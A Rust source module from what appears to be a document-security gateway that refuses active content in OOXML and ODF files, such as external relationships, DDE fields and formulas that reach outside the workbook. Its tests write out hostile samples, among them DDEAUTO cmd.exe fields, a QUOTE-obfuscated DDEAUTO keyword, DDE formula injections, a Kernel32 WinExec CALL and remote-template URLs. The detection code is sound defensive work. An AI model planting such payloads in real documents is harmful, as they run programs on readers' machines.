//! What in an office document reaches outside it when it is opened: a remote template, an
//! external OLE link, a frame or `mhtml:` target, a DDE field, a linked object or sheet, an
//! imported `altChunk` document. Each is active content (`active_content`), refused whatever
//! the text rules; a plain hyperlink, followed only when a reader clicks it, crosses where the
//! policy allows hyperlinks.
//!
//! ```text
//!  OOXML  *.rels      ─► relationships: TargetMode="External" (hyperlink: policy switch),
//!                        mhtml:/file:/UNC targets, altChunk (aFChunk), ActiveX (control)
//!  OOXML  word parts  ─► fields: w:instrText / w:fldSimple DDE, DDEAUTO, LINK, INCLUDETEXT,
//!                        INCLUDEPICTURE, IMPORT;  xl externalLinks: ddeLink, oleLink
//!  ODF    content     ─► DDE sources and connections; xlink:href of objects, images, linked
//!                        sections and sheets pointing outside the package; text:a (switch);
//!                        applets, plugins and script event listeners
//! ```
//!
//! References: ECMA-376 Part 2 §9 (relationships) and Part 1 §17.16 (fields), §18.14
//! (external workbook references); OASIS ODF 1.3 Part 3 §19.910 (xlink:href).

use crate::core::reason::{Reason, Refusal};
use quick_xml::events::BytesStart;
use std::io::BufRead;

/// Longest field instruction kept while it is gathered from its runs, in bytes; a longer one
/// is judged on its start.
const MAX_INSTRUCTION: usize = 4096;

/// Whether a hyperlink to the outside may cross.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Hyperlinks {
    /// Hyperlinks (http, https, mailto) cross: they are followed only when clicked.
    #[default]
    Allow,
    /// Any hyperlink to the outside is refused as active content.
    Refuse,
}

impl Hyperlinks {
    /// The word a policy uses: `allow` or `refuse`.
    pub fn as_str(self) -> &'static str {
        match self {
            Hyperlinks::Allow => "allow",
            Hyperlinks::Refuse => "refuse",
        }
    }

    /// Parses a policy's word for it.
    pub fn parse(word: &str) -> Option<Hyperlinks> {
        match word {
            "allow" => Some(Hyperlinks::Allow),
            "refuse" => Some(Hyperlinks::Refuse),
            _ => None,
        }
    }

    /// Whether a hyperlink to `target` crosses: allowed hyperlinks to http, https and mailto;
    /// never one to a file, a share or an archive format a browser opens as a document.
    pub fn allows(self, target: &str) -> bool {
        let lower = target.trim().to_ascii_lowercase();
        self == Hyperlinks::Allow
            && ["http://", "https://", "mailto:"]
                .iter()
                .any(|s| lower.starts_with(s))
    }
}

fn refuse(detail: String) -> Result<(), Refusal> {
    Err(Refusal::new(Reason::ActiveContent, detail))
}

/// How a target reaches outside, in words: `None` for a part inside the package.
fn outside(target: &str) -> Option<&'static str> {
    let t = target.trim().to_ascii_lowercase();
    if t.starts_with("\\\\") || t.starts_with("//") {
        return Some("UNC share");
    }
    for (scheme, what) in [
        ("mhtml:", "mhtml"),
        ("mk:", "mhtml"),
        ("file:", "file"),
        ("http:", "http"),
        ("https:", "https"),
        ("ftp:", "ftp"),
        ("smb:", "smb"),
        ("ms-", "ms- protocol handler"),
        ("search-ms:", "search-ms"),
        ("javascript:", "javascript"),
        ("vbscript:", "vbscript"),
        ("data:", "data"),
    ] {
        if t.starts_with(scheme) {
            return Some(what);
        }
    }
    // any other scheme (a letter run then ':'), or a drive letter
    let scheme_end = t.find(':');
    if let Some(end) = scheme_end
        && end > 0
        && t[..end]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
    {
        return Some(if end == 1 { "local path" } else { "URL" });
    }
    (t.starts_with('/') || t.starts_with('\\')).then_some("absolute path")
}

/// An `xlink:href` that climbs out of the package: ODF resolves a relative reference
/// against the package itself, so `../x.ods` names a file beside the document on the
/// reader's disk or share (OASIS ODF 1.3 Part 3 §3.8 and §19.910), not a part.
fn above_package(href: &str) -> Option<&'static str> {
    let t = href.trim().replace("%2e", ".").replace("%2E", ".");
    let mut depth = 0i64;
    for segment in t.split(['/', '\\']) {
        match segment {
            ".." => depth -= 1,
            "" | "." => {}
            _ => depth += 1,
        }
        if depth < 0 {
            return Some("file beside the document");
        }
    }
    None
}

/// The value of attribute `local` (namespace prefix ignored) of `start`, unescaped.
fn attribute(start: &BytesStart<'_>, local: &[u8]) -> Option<String> {
    start.attributes().flatten().find_map(|a| {
        (a.key.local_name().as_ref() == local)
            .then(|| {
                a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                    .ok()
                    .map(|v| v.into_owned())
            })
            .flatten()
    })
}

/// Checks the relationships of one `.rels` part at `path`: every external target, and the
/// relationship types that import or run something.
///
/// # Errors
/// Reading `input` failed; malformed XML is a `content_unreadable` refusal.
pub fn relationships(
    input: &mut dyn BufRead,
    path: &str,
    hyperlinks: Hyperlinks,
) -> std::io::Result<Result<(), Refusal>> {
    let mut reader = quick_xml::Reader::from_reader(input);
    let mut buf = Vec::with_capacity(1024);
    loop {
        buf.clear();
        let event = match reader.read_event_into(&mut buf) {
            Ok(event) => event,
            Err(quick_xml::Error::Io(e)) => {
                return Err(std::io::Error::new(e.kind(), e.to_string()));
            }
            Err(e) => {
                return Ok(Err(Refusal::new(
                    Reason::ContentUnreadable,
                    format!("{path}: relationships cannot be read: {e}"),
                )));
            }
        };
        let start = match &event {
            quick_xml::events::Event::Start(s) | quick_xml::events::Event::Empty(s) => s,
            quick_xml::events::Event::Eof => return Ok(Ok(())),
            _ => continue,
        };
        if start.local_name().as_ref() != b"Relationship" {
            continue;
        }
        let kind = attribute(start, b"Type").unwrap_or_default();
        let kind = kind.rsplit('/').next().unwrap_or_default().to_string();
        let target = attribute(start, b"Target").unwrap_or_default();
        let external = attribute(start, b"TargetMode").is_some_and(|m| m == "External");
        if let Err(r) = relationship(path, &kind, &target, external, hyperlinks) {
            return Ok(Err(r));
        }
    }
}

/// Judges one relationship of type `kind` (the last segment of its type URI).
fn relationship(
    path: &str,
    kind: &str,
    target: &str,
    external: bool,
    hyperlinks: Hyperlinks,
) -> Result<(), Refusal> {
    let shown: String = target.chars().take(200).collect();
    match kind {
        "aFChunk" => {
            return refuse(format!(
                "{path}: altChunk → {shown:?}: another document Word imports as the body"
            ));
        }
        "control" => return refuse(format!("{path}: ActiveX control → {shown:?}")),
        "connections" | "queryTable" => {
            return refuse(format!(
                "{path}: {kind} → {shown:?}: an external data connection the workbook refreshes from"
            ));
        }
        _ => {}
    }
    let reach = outside(target);
    if !external && reach.is_none() {
        return Ok(());
    }
    if kind == "hyperlink" && hyperlinks.allows(target) {
        return Ok(());
    }
    match reach {
        Some(how) => refuse(format!("{path}: {kind} → external {how} target ({shown})")),
        None => refuse(format!("{path}: {kind} → external target ({shown})")),
    }
}

/// Watches the elements of one document part for fields and links that reach outside, as
/// the document reader reads the part.
#[derive(Debug)]
pub struct Watch<'a> {
    path: &'a str,
    hyperlinks: Hyperlinks,
    /// Inside a `w:instrText` element.
    in_instruction: bool,
    /// Inside a spreadsheet formula (a cell's `f`, a defined name, a conditional format's
    /// or a validation's formula), with its text so far.
    formula: Option<String>,
    /// The formula ran past [`MAX_FORMULA`].
    formula_long: bool,
    /// The fields open at this point of the part, nested.
    fields: Fields<'a>,
}

impl<'a> Watch<'a> {
    /// A watch over the part at `path`.
    pub fn new(path: &'a str, hyperlinks: Hyperlinks) -> Watch<'a> {
        Watch {
            path,
            hyperlinks,
            in_instruction: false,
            formula: None,
            formula_long: false,
            fields: Fields::new(path),
        }
    }

    /// An element starts (or is empty): judges it and its attributes.
    ///
    /// # Errors
    /// The refusal when the element reaches outside.
    pub fn start(&mut self, start: &BytesStart<'_>) -> Result<(), Refusal> {
        let path = self.path;
        let name = start.name();
        let qualified = name.as_ref();
        let local = start.local_name();
        match local.as_ref() {
            b"instrText" => self.in_instruction = true,
            // SpreadsheetML cell formulas (ECMA-376 Part 1 §18.3.1.40); a shared formula's
            // followers are empty and refer to the master, judged where it is written
            // (only in a workbook's parts: OMML's `m:f` is a fraction in a Word equation)
            b"f" | b"definedName" | b"formula" | b"formula1" | b"formula2"
                if self.path.to_ascii_lowercase().starts_with("xl/") =>
            {
                self.formula = Some(String::new());
                self.formula_long = false;
            }
            b"fldChar" => match attribute(start, b"fldCharType").as_deref() {
                Some("begin") => self.fields.begin()?,
                Some("separate") => self.fields.separate()?,
                Some("end") => self.fields.end()?,
                _ => {}
            },
            b"fldSimple" => {
                // a field of its own, nested where it stands (inside another's code too)
                if let Some(instr) = attribute(start, b"instr") {
                    self.fields.begin()?;
                    self.fields.code(&instr);
                    self.fields.end()?;
                }
            }
            b"ddeLink" | b"dde-source" | b"dde-connection-decl" | b"dde-link" => {
                return refuse(format!(
                    "{path}: DDE link ({})",
                    String::from_utf8_lossy(qualified)
                ));
            }
            b"oleLink" => return refuse(format!("{path}: linked OLE object")),
            b"applet" | b"plugin" => {
                return refuse(format!("{path}: {}", String::from_utf8_lossy(qualified)));
            }
            b"event-listener" => {
                return refuse(format!("{path}: script event listener"));
            }
            _ => {}
        }
        // VML OLE objects linked rather than embedded
        if local.as_ref() == b"OLEObject" && attribute(start, b"Type").as_deref() == Some("Link") {
            return refuse(format!("{path}: linked OLE object"));
        }
        // ODF and VML references by xlink:href / o:href
        if let Some(href) = attribute(start, b"href")
            && let Some(how) = outside(&href).or_else(|| above_package(&href))
        {
            let shown: String = href.chars().take(200).collect();
            let is_link = matches!(local.as_ref(), b"a" | b"hyperlink" | b"link");
            if !(is_link && self.hyperlinks.allows(&href)) {
                return refuse(format!(
                    "{path}: {} → external {how} target ({shown})",
                    String::from_utf8_lossy(qualified)
                ));
            }
        }
        Ok(())
    }

    /// An element ends.
    ///
    /// # Errors
    /// The refusal when a field that ends here reaches outside.
    pub fn end(&mut self, local: &[u8]) -> Result<(), Refusal> {
        if local == b"instrText" {
            self.in_instruction = false;
        }
        if matches!(
            local,
            b"f" | b"definedName" | b"formula" | b"formula1" | b"formula2"
        ) && let Some(f) = self.formula.take()
        {
            if self.formula_long {
                return refuse(format!(
                    "{}: a formula longer than {MAX_FORMULA} bytes, more than a spreadsheet takes",
                    self.path
                ));
            }
            return formula(self.path, &f, self.hyperlinks);
        }
        Ok(())
    }

    /// Character data inside the current element.
    ///
    /// # Errors
    /// Never, today; kept for symmetry with the other callbacks.
    pub fn text(&mut self, text: &str) -> Result<(), Refusal> {
        if let Some(f) = self.formula.as_mut() {
            if f.len() + text.len() <= MAX_FORMULA {
                f.push_str(text);
            } else {
                self.formula_long = true;
            }
        }
        if self.in_instruction {
            match self.fields.open.last() {
                // code outside any begun field is judged as a field of its own
                None => self.fields.open.push((String::new(), false)),
                // code after a field's result began: judged alone, fail closed
                Some((_, true)) => return field(self.path, text),
                Some((_, false)) => {}
            }
            self.fields.code(text);
        }
        Ok(())
    }

    /// The part ends: a field whose instruction never ended is judged too.
    ///
    /// # Errors
    /// The refusal when that field reaches outside.
    pub fn finish(&mut self) -> Result<(), Refusal> {
        self.fields.finish()
    }
}

/// Spreadsheet functions that reach outside the workbook when it calculates: fetch a URL
/// (`WEBSERVICE`, `IMAGE`), talk to a running program (`RTD`), call into a library
/// (`CALL`, `REGISTER`, `REGISTER.ID`) or run one (`EXEC`).
const REACHING_FUNCTIONS: [&str; 7] = [
    "WEBSERVICE",
    "IMAGE",
    "RTD",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
];

/// Judges one spreadsheet formula (ECMA-376 Part 1 §18.17): a DDE reference
/// (`cmd|'/c calc'!A1`: the `|` operator, outside string literals and quoted sheet names),
/// a function that reaches outside (`WEBSERVICE`, `IMAGE`, `RTD`, `CALL`, `REGISTER`,
/// `EXEC`, with or without the `_xlfn.` prefix), a `HYPERLINK` whose target is neither a
/// literal plain hyperlink the policy lets cross nor a place in the workbook (`#…`), or a
/// quote that never closes.
///
/// # Errors
/// The `active_content` refusal, naming `path` and the formula.
pub fn formula(path: &str, formula: &str, hyperlinks: Hyperlinks) -> Result<(), Refusal> {
    let shown: String = formula.chars().take(120).collect();
    // the formula upper-cased with its string literals ("…", "" a quote inside) and quoted
    // sheet names ('…', '' a quote inside) blanked; each string literal kept with where it
    // starts
    let chars: Vec<char> = formula.chars().collect();
    let mut bare: Vec<char> = Vec::with_capacity(chars.len());
    let mut literals: Vec<(usize, String)> = Vec::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        if c == '"' || c == '\'' {
            let at = bare.len();
            bare.push(c);
            let mut text = String::new();
            i += 1;
            while let Some(&d) = chars.get(i) {
                if d == c {
                    if chars.get(i + 1) == Some(&c) {
                        text.push(c);
                        bare.extend([' ', ' ']);
                        i += 2;
                        continue;
                    }
                    break;
                }
                text.push(d);
                bare.push(' ');
                i += 1;
            }
            if chars.get(i).is_none() {
                // what a quote never closed hides cannot be judged
                return refuse(format!(
                    "{path}: a formula with a quote ({c}) that never closes ({shown})"
                ));
            }
            bare.push(c);
            i += 1;
            if c == '"' {
                literals.push((at, text));
            }
            continue;
        }
        bare.push(c.to_ascii_uppercase());
        i += 1;
    }
    let bare: String = bare.into_iter().collect();
    if bare.contains('|') {
        return refuse(format!(
            "{path}: a formula with a DDE reference runs a program ({shown})"
        ));
    }
    // where each call of `name` opens its parenthesis (as a char index of `bare`)
    let calls = |name: &str| -> Vec<usize> {
        let b: Vec<char> = bare.chars().collect();
        let n: Vec<char> = name.chars().collect();
        let mut found = Vec::new();
        for at in 0..b.len() {
            if b.get(at..at + n.len()) != Some(&n[..]) {
                continue;
            }
            let before = at.checked_sub(1).and_then(|j| b.get(j)).copied();
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                let ends_with = |p: &str| {
                    let p: Vec<char> = p.chars().collect();
                    at.checked_sub(p.len()).and_then(|s| b.get(s..at)) == Some(&p[..])
                };
                if !(ends_with("_XLFN.") || ends_with("_XLUDF.")) {
                    continue;
                }
            }
            let mut j = at + n.len();
            while b.get(j).is_some_and(|c| c.is_whitespace()) {
                j += 1;
            }
            if b.get(j) == Some(&'(') {
                found.push(j);
            }
        }
        found
    };
    if let Some(f) = REACHING_FUNCTIONS.iter().find(|f| !calls(f).is_empty()) {
        return refuse(format!(
            "{path}: a formula calls {f}, which reaches outside the workbook ({shown})"
        ));
    }
    // every HYPERLINK's target: a string literal at once, a place in the workbook (#…) or
    // a plain hyperlink the policy lets cross
    let b: Vec<char> = bare.chars().collect();
    for open in calls("HYPERLINK") {
        let mut j = open + 1;
        while b.get(j).is_some_and(|c| c.is_whitespace()) {
            j += 1;
        }
        let target = literals.iter().find(|(at, _)| *at == j).map(|(_, t)| t);
        if !target.is_some_and(|t| t.starts_with('#') || hyperlinks.allows(t)) {
            return refuse(format!(
                "{path}: a HYPERLINK formula to a target that is not a plain hyperlink the policy lets cross ({shown})"
            ));
        }
    }
    Ok(())
}

/// The fields open at one point of a document, nested (ECMA-376 Part 1 §17.16.18, complex
/// fields; [MS-DOC] 2.8.25, the field characters 0x13, 0x14 and 0x15 of Word's binary
/// format): each field's code is gathered until its result begins (separate) or it ends,
/// then judged by [`field`].
///
/// A field whose keyword is not written out before a nested field begins (`{ {QUOTE 68 68 69
/// 65 85 84 79} c:\cmd.exe }`, `{ DD{QUOTE 69} … }`) has a keyword that only updating the
/// fields computes: it is refused, as the gateway cannot tell what it runs. A nested field
/// after the keyword (`{ IF {MERGEFIELD x} = 1 … }`, `{ = {PAGE} + 1 }`) is ordinary.
#[derive(Debug)]
pub struct Fields<'a> {
    path: &'a str,
    /// The open fields, outermost first: each one's code, and whether its result began.
    open: Vec<(String, bool)>,
}

/// Fields nested deeper than this are refused (`active_content`): no document needs it,
/// and the stack stays bounded.
const MAX_FIELD_DEPTH: usize = 32;

impl<'a> Fields<'a> {
    /// No field open yet, in the part or stream at `path` (named in refusals).
    pub fn new(path: &'a str) -> Fields<'a> {
        Fields {
            path,
            open: Vec::new(),
        }
    }

    /// A field begins (`fldChar` begin, character 0x13).
    ///
    /// # Errors
    /// The `active_content` refusal when it begins inside the code of a field whose keyword
    /// is not written out yet, or when fields nest deeper than 32.
    pub fn begin(&mut self) -> Result<(), Refusal> {
        if let Some((code, false)) = self.open.last() {
            let code = code.trim_start();
            let word = code.to_ascii_uppercase();
            // nothing written yet, or the start of a keyword that reaches outside: the
            // nested field writes (the rest of) the keyword
            if code.chars().all(|c| c.is_ascii_alphabetic())
                && REACHING_FIELDS.iter().any(|k| k.starts_with(word.as_str()))
            {
                let shown: String = code.chars().take(40).collect();
                return refuse(format!(
                    "{}: a field's keyword is built by a nested field ({{ {shown}{{…}} … }}): what it runs is known only once fields update",
                    self.path
                ));
            }
        }
        if self.open.len() >= MAX_FIELD_DEPTH {
            return refuse(format!(
                "{}: fields nested deeper than {MAX_FIELD_DEPTH}",
                self.path
            ));
        }
        self.open.push((String::new(), false));
        Ok(())
    }

    /// Text of the innermost open field's code (`w:instrText`, or the characters between
    /// 0x13 and 0x14); text outside any field's code is ignored.
    pub fn code(&mut self, text: &str) {
        if let Some((code, false)) = self.open.last_mut() {
            // white space before the keyword is not kept: it would fill the room the
            // keyword is judged in
            let text = if code.is_empty() {
                text.trim_start()
            } else {
                text
            };
            let room = MAX_INSTRUCTION.saturating_sub(code.len());
            let mut end = room.min(text.len());
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            code.push_str(&text[..end]);
        }
    }

    /// The innermost field's result begins (`fldChar` separate, character 0x14): its code
    /// is judged.
    ///
    /// # Errors
    /// The refusal of [`field`].
    pub fn separate(&mut self) -> Result<(), Refusal> {
        match self.open.last_mut() {
            Some((code, separated @ false)) => {
                *separated = true;
                field(self.path, code)
            }
            _ => Ok(()),
        }
    }

    /// The innermost field ends (`fldChar` end, character 0x15): its code is judged if its
    /// result never began.
    ///
    /// # Errors
    /// The refusal of [`field`].
    pub fn end(&mut self) -> Result<(), Refusal> {
        match self.open.pop() {
            Some((code, false)) => field(self.path, &code),
            _ => Ok(()),
        }
    }

    /// The part ends: every field whose code never ended is judged too.
    ///
    /// # Errors
    /// The refusal of [`field`].
    pub fn finish(&mut self) -> Result<(), Refusal> {
        while !self.open.is_empty() {
            self.end()?;
        }
        Ok(())
    }
}

/// Field keywords that reach outside: DDE and DDEAUTO run a program; LINK, INCLUDETEXT,
/// INCLUDEPICTURE, IMPORT and INCLUDE fetch a file or URL when fields update.
const REACHING_FIELDS: [&str; 7] = [
    "DDE",
    "DDEAUTO",
    "LINK",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "IMPORT",
    "INCLUDE",
];

/// The longest spreadsheet formula read, in bytes: Excel takes 8,192 characters; a longer
/// one is refused rather than judged on its start.
const MAX_FORMULA: usize = 32 * 1024;

/// Judges one field instruction (ECMA-376 Part 1 §17.16.5): DDE and DDEAUTO run a program;
/// LINK, INCLUDETEXT, INCLUDEPICTURE and IMPORT fetch a file or URL when fields update.
///
/// # Errors
/// The `active_content` refusal, naming `path` and the field.
pub fn field(path: &str, instruction: &str) -> Result<(), Refusal> {
    let trimmed = instruction.trim_start();
    let word: String = trimmed
        .chars()
        .take_while(|c| c.is_ascii_alphabetic())
        .collect::<String>()
        .to_ascii_uppercase();
    if REACHING_FIELDS.contains(&word.as_str()) {
        let shown: String = trimmed.chars().take(120).collect();
        return refuse(format!("{path}: field {word} reaches outside ({shown})"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rels(xml: &str, hyperlinks: Hyperlinks) -> Result<(), Refusal> {
        relationships(&mut xml.as_bytes(), "word/_rels/x.rels", hyperlinks).unwrap()
    }

    fn rel(kind: &str, target: &str, mode: &str) -> String {
        format!(
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>"#
        )
    }

    const EXTERNAL: &str = r#" TargetMode="External""#;

    #[test]
    fn a_remote_template_and_other_external_targets_are_refused() {
        let r = rels(
            &rel(
                "attachedTemplate",
                "http://198.51.100.23/Normal.dotm",
                EXTERNAL,
            ),
            Hyperlinks::Allow,
        )
        .unwrap_err();
        assert_eq!(r.reason, Reason::ActiveContent);
        assert!(
            r.detail
                .contains("attachedTemplate → external http target (http://198.51.100.23"),
            "{r}"
        );
        for (kind, target) in [
            (
                "oleObject",
                "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x",
            ),
            ("frame", "http://198.51.100.7/frame.html"),
            ("image", "\\\\198.51.100.7\\share\\a.png"),
            ("subDocument", "file:///C:/x.docx"),
        ] {
            let r = rels(&rel(kind, target, EXTERNAL), Hyperlinks::Allow).unwrap_err();
            assert!(r.detail.contains(kind), "{r}");
        }
        // an internal target that is in fact a URL is refused too
        assert!(rels(&rel("oleObject", "mhtml:http://x/y", ""), Hyperlinks::Allow).is_err());
        assert!(rels(&rel("aFChunk", "afchunk.mht", ""), Hyperlinks::Allow).is_err());
        assert!(
            rels(
                &rel("control", "activeX/activeX1.xml", ""),
                Hyperlinks::Allow
            )
            .is_err()
        );
    }

    #[test]
    fn hyperlinks_follow_the_switch_and_internal_parts_pass() {
        let link = rel("hyperlink", "https://www.court.gov.cn/", EXTERNAL);
        assert_eq!(rels(&link, Hyperlinks::Allow), Ok(()));
        assert!(rels(&link, Hyperlinks::Refuse).is_err());
        // a "hyperlink" to a share or a file is not a plain hyperlink
        let unc = rel("hyperlink", "\\\\198.51.100.7\\x", EXTERNAL);
        assert!(rels(&unc, Hyperlinks::Allow).is_err());
        let internal = rel("styles", "styles.xml", "");
        assert_eq!(rels(&internal, Hyperlinks::Refuse), Ok(()));
        assert_eq!(
            rels(&rel("image", "media/image1.png", ""), Hyperlinks::Allow),
            Ok(())
        );
    }

    #[test]
    fn dde_and_fetching_fields_are_refused_ordinary_fields_pass() {
        assert!(
            field(
                "p",
                " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""
            )
            .is_err()
        );
        assert!(field("p", "INCLUDEPICTURE \"http://198.51.100.7/a.png\" \\d").is_err());
        assert!(field("p", " PAGE \\* MERGEFORMAT ").is_ok());
        assert!(field("p", "HYPERLINK \"https://www.court.gov.cn\"").is_ok());
    }

    /// Runs `events` through [`Fields`]: `{` begin, `|` separate, `}` end, other text code.
    fn fields(events: &str) -> Result<(), Refusal> {
        let mut f = Fields::new("p");
        let mut text = String::new();
        for c in events.chars() {
            if matches!(c, '{' | '|' | '}') {
                f.code(&std::mem::take(&mut text));
            }
            match c {
                '{' => f.begin()?,
                '|' => f.separate()?,
                '}' => f.end()?,
                c => text.push(c),
            }
        }
        f.code(&text);
        f.finish()
    }

    #[test]
    fn a_keyword_a_nested_field_builds_is_refused_ordinary_nesting_passes() {
        // the 2017 obfuscation: QUOTE spells DDEAUTO
        let r = fields(r#"{{QUOTE 68 68 69 65 85 84 79} c:\cmd.exe "/k calc"}"#).unwrap_err();
        assert!(
            r.detail.contains("keyword is built by a nested field"),
            "{r:?}"
        );
        assert!(fields("{DD{QUOTE 69}E c:\\cmd.exe}").is_err());
        assert!(fields("{ {QUOTE 68} }").is_err());
        assert!(fields("{I{QUOTE 78}CLUDETEXT x}").is_err());
        // a complete keyword before a nested field is ordinary (IF, =, SET …)
        assert_eq!(
            fields("{IF{MERGEFIELD 性别|男}=\"男\" \"先生\" \"女士\"|先生}"),
            Ok(())
        );
        // white space before the keyword does not push it out of the code kept
        let padded = format!("{{{} DDEAUTO c:\\cmd.exe}}", " ".repeat(5000));
        assert!(fields(&padded).is_err());
        // a plain DDE field, nested or not, and one never closed
        assert!(fields("{ IF 1 = 1 \"{ DDEAUTO c:\\cmd.exe }\" }").is_err());
        assert!(fields(" DDE x ").is_ok(), "text outside a field is no code");
        assert!(fields("{ DDEAUTO c:\\cmd.exe").is_err());
        // ordinary nesting after the keyword, and results that look like code
        assert_eq!(fields("{ IF {MERGEFIELD x|v} = 1 \"a\" \"b\"|a}"), Ok(()));
        assert_eq!(fields("{ = {PAGE|3} + 1|4}"), Ok(()));
        assert_eq!(fields("{ HYPERLINK \"https://a\"|DDEAUTO c}"), Ok(()));
        let deep = "{ IF ".repeat(40);
        assert!(fields(&deep).is_err());
    }

    #[test]
    fn formulas_that_reach_outside_are_refused_ordinary_ones_pass() {
        for f in [
            "cmd|'/c calc'!A1",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "WEBSERVICE(\"http://198.51.100.1/x\")",
            "_xlfn.WEBSERVICE(A1)",
            "RTD(\"prog.id\",,\"x\")",
            "CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "_xlfn.IMAGE(\"https://198.51.100.1/a.png\")",
            "HYPERLINK(\"file://198.51.100.1/share/x.exe\",\"open\")",
            "HYPERLINK(A1,\"computed\")",
            "IF(TRUE, EXEC(\"calc\"), 0)",
            // the second HYPERLINK too, and a DDE reference between quoted sheet names
            "IF(A1,HYPERLINK(\"https://a\"),HYPERLINK(\"file://198.51.100.1/s/x.exe\"))",
            "'a\"b'!A1&cmd|'/c calc'!A1&'c\"d'!A1",
            "'&WEBSERVICE(\"http://x\")",
        ] {
            let r = formula("xl/worksheets/sheet1.xml", f, Hyperlinks::Allow);
            assert_eq!(r.map_err(|r| r.reason), Err(Reason::ActiveContent), "{f}");
        }
        for f in [
            "SUM(A1:A9)",
            "CONCAT(\"a|b\", \"RTD(\")",
            "HYPERLINK(\"https://www.court.gov.cn/\", \"法院\")",
            "MYCALL(1)",
            "IMAGES + 1",
            "A1&\"\"\"|\"\"\"",
            // places in the workbook, and a sheet named with a bar
            "HYPERLINK(\"#目录!A1\",\"返回\")",
            "HYPERLINK(\"#'Sheet 2'!A1\", \"下一页\")",
            "'a|b'!A1+'it''s'!B2",
        ] {
            assert_eq!(
                formula("xl/worksheets/sheet1.xml", f, Hyperlinks::Allow),
                Ok(()),
                "{f}"
            );
        }
        assert!(formula("p", "HYPERLINK(\"https://a\")", Hyperlinks::Refuse).is_err());
    }

    #[test]
    fn outside_targets_are_told_from_parts() {
        assert_eq!(outside("media/image1.png"), None);
        assert_eq!(outside("../word/document.xml"), None);
        assert_eq!(outside("Pictures/1.png"), None);
        assert_eq!(outside("./Object 1"), None);
        assert_eq!(outside("C:\\x.dotm"), Some("local path"));
        assert_eq!(outside("HTTPS://x"), Some("https"));
        assert_eq!(outside("/etc/passwd"), Some("absolute path"));
    }
}
